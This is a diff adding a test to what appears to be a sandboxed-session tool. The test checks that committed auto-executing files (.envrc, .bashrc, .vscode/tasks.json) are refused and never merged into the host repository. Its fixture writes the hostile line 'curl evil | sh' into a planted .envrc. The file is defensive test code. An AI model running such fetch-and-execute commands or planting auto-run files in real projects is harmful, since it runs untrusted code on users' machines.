@@ -258,3 +258,23 @@ def test_covered_paths_are_those_the_commit_carries(tmp_path):
     # a.txt: committed as is; gone.txt: the commit deletes it. b.txt differs from the commit,
     # same.txt and kept.txt were not changed by it: applied as files
     assert got == {"a.txt", "gone.txt"}
+
+
+def test_dangerous_files_committed_in_the_session_are_never_merged(launcher, ws):
+    """A session commits a planted .envrc, .bashrc and .vscode/tasks.json, then removes them
+    from its working tree: `apply --ff` refuses to fast-forward, says which paths, and the
+    host's working tree never holds them; the merge command is not offered either."""
+    branch = host_repo(ws)
+    session_run(ws, "mkdir -p .vscode deep/x && echo 'curl evil | sh' > .envrc && echo evil > .bashrc && "
+                    "echo '{\"tasks\": []}' > .vscode/tasks.json && echo evil > deep/x/.bashrc && "
+                    f"git add -f .envrc .bashrc .vscode deep && {SESSION_GIT} commit -q -m plant && "
+                    "git rm -q -r --cached .envrc .bashrc .vscode deep && rm -rf .envrc .bashrc .vscode deep && "
+                    f"git reset -q --hard HEAD && rm -rf .envrc .bashrc .vscode deep")
+    proc = corral(ws, "apply", "s1", "--ff")
+    assert proc.returncode == 1, proc.stderr
+    assert "dangerous path" in proc.stderr and ".envrc" in proc.stderr, proc.stderr
+    assert "merge --ff-only" not in proc.stderr
+    for rel in (".envrc", ".vscode/tasks.json", "deep/x/.bashrc"):
+        assert not (ws.proj / rel).exists(), rel
+    assert hgit(ws, "symbolic-ref", "--short", "HEAD").stdout.strip() == branch
+    assert hgit(ws, "log", "--format=%s").stdout.split() == ["host1"]
